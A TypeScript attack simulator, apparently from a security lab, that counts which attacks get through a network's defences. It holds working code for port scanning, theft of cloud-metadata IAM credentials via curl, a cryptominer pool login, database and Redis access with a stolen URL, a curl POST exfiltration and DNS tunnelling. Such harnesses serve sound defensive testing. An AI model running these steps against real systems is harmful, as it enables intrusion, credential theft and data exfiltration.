/**
 * The attacker in shop/legacy-cms. One attack by name, or `campaign`: all of them in turn, slowly, for ever.
 * Counted as `ok` is what reached its goal, as `failed` what was stopped.
 */
import { type ExecFileOptions, execFile } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import { lookup, Resolver } from 'node:dns/promises'
import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { createInterface } from 'node:readline'
import { promisify } from 'node:util'
import { openCounts, sentence } from './counts.ts'
import { env } from './http.ts'
import { within } from './pool.ts'
import { repeat } from './repeat.ts'

const counts = openCounts()
const name = process.argv[2] ?? 'campaign'
/** A campaign runs for days: what it did is in its counts. */
const say = name === 'campaign' ? () => undefined : (line: string) => process.stdout.write(`${line}\n`)
const execute = promisify(execFile)

/** Runs a tool of Debian; its own last words are the error, not its command line. */
async function exec(program: string, argv: string[], options: ExecFileOptions = {}): Promise<void> {
  try {
    await execute(program, argv, options)
  } catch (error) {
    const { stderr, killed } = error as { stderr?: string; killed?: boolean } // what execFile adds to its errors
    throw new Error(stderr?.trim() || (killed ? `${program}: no answer` : sentence(error)))
  }
}

/** Tries one thing; says and counts how it ended. */
async function tried<T>(attack: string, what: string, call: () => Promise<T>): Promise<T | undefined> {
  let outcome = 'reached'
  const value = await counts.attempt(attack, () =>
    call().catch((error: unknown) => {
      outcome = `stopped: ${sentence(error).split('\n')[0]}`
      throw error
    }),
  )
  say(`${attack}: ${what}: ${outcome}`)
  return value
}

const SCANNED_PORTS = [22, 80, 443, 2379, 3000, 3306, 5432, 6379, 6443, 8080, 8443, 9090, 9200, 10250, 27017]
const CONNECT_MS = 800

/** A refused connection is an answer too: the packet got there, and the scanner has learned something. */
function knock(host: string, port: number): Promise<void> {
  const socket = connect({ host, port })
  const answered = new Promise<void>((resolve, reject) => {
    socket.once('connect', () => resolve())
    socket.once('error', (error: NodeJS.ErrnoException) =>
      error.code === 'ECONNREFUSED' ? resolve() : reject(error),
    )
  })
  return within(`connect ${host}`, CONNECT_MS, answered).finally(() => socket.destroy())
}

const SCAN_TARGETS = env('SCAN_TARGETS')
  .split(' ')
  .map(entry => entry.split('=') as [name: string, host: string])

async function scanHost([name, host]: readonly [string, string]): Promise<void> {
  await Promise.all(
    SCANNED_PORTS.map(port => tried('port-scan', `${name} ${host} port ${port}`, () => knock(host, port))),
  )
}

async function metadata(): Promise<void> {
  const url = `http://${env('METADATA_ADDRESS')}/latest/meta-data/iam/security-credentials/node`
  await tried('metadata', url, () => exec('curl', ['-sSf', '--max-time', '2', url]))
}

interface Miner {
  readonly socket: Socket
  share(): Promise<unknown>
}

async function openMiner(): Promise<Miner> {
  const { address } = await within('dns', 3_000, lookup(env('POOL_NAME'), { family: 4 }))
  const socket = connect({ host: address, port: Number(env('POOL_PORT')) })
  const answers = createInterface({ input: socket }).on('error', () => undefined) // the socket has it too
  socket.on('error', () => socket.destroy())
  await within('connect to the pool', 2_000, once(socket, 'connect'))
  let id = 0
  const call = (method: string) => {
    socket.write(`${JSON.stringify({ id: ++id, method, params: ['lab', 'x'] })}\n`)
    return within(`stratum ${method}`, 2_000, once(answers, 'line'))
  }
  try {
    await call('mining.authorize')
  } catch (error) {
    socket.destroy()
    throw error
  }
  return { socket, share: () => call('mining.submit') }
}

let miner: Miner | undefined

/** Keeps its connection: a change of policy must stop what is already running, too. */
async function mine(): Promise<void> {
  const { POOL_NAME, POOL_PORT } = process.env
  miner ??= await tried('mining', `log in to ${POOL_NAME} port ${POOL_PORT}`, openMiner)
  const working = miner
  if (working === undefined) return
  if ((await tried('mining', 'submit a share', () => working.share())) !== undefined) return
  working.socket.destroy()
  miner = undefined
}

async function lateral(): Promise<void> {
  const url = env('STOLEN_DATABASE_URL')
  const sql = 'SELECT count(*) FROM charges'
  const psql = () => exec('psql', [url, '-Atc', sql], { env: { ...process.env, PGCONNECT_TIMEOUT: '2' } })
  await tried('lateral-db', `psql ${new URL(url).host}: ${sql}`, psql)
  const host = env('CART_ADDRESS')
  const redis = () => exec('redis-cli', ['-h', host, 'GET', 'cart:items'], { timeout: 2_500 })
  await tried('lateral-db', `redis-cli ${host}: GET cart:items`, redis)
}

async function exfil(): Promise<void> {
  const url = env('EXFIL_URL')
  const load = randomBytes(24_576).toString('base64')
  const argv = ['-sSf', '--max-time', '4', '--cacert', env('CA_FILE'), '--data', load, url]
  await tried('exfil', `POST 32 KiB to ${url}`, () => exec('curl', argv))
}

async function tunnel(names: number): Promise<void> {
  const resolver = new Resolver({ timeout: 1_500, tries: 1 })
  for (let index = 0; index < names; index++) {
    const name = `${randomBytes(24).toString('hex')}.${env('TUNNEL_ZONE')}`
    await tried('dns-tunnel', name, () => resolver.resolve4(name))
  }
}

const ATTACKS: Readonly<Record<string, () => Promise<unknown>>> = {
  'port-scan': async () => {
    for (const target of SCAN_TARGETS) await scanHost(target)
  },
  metadata,
  mining: async () => {
    for (let share = 0; share < 3; share++) await mine()
    miner?.socket.destroy()
  },
  'lateral-db': lateral,
  exfil,
  'dns-tunnel': () => tunnel(40),
}

/** One step every few seconds, so that a person sees the story grow and the machine stays quiet. */
async function campaign(): Promise<never> {
  const steps: (() => Promise<unknown>)[] = [metadata, lateral, exfil, () => tunnel(6)]
  return repeat(4_000, async round => {
    const target = SCAN_TARGETS[Math.floor(round / 2) % SCAN_TARGETS.length]
    if (round % 2 === 0 && target) await scanHost(target)
    else await steps[Math.floor(round / 2) % steps.length]?.()
    await mine()
  })
}

const attack = name === 'campaign' ? campaign : ATTACKS[name]
if (!attack) throw new Error(`no attack is called "${name}"; there are ${Object.keys(ATTACKS).join(', ')}`)
await attack()
counts.write()
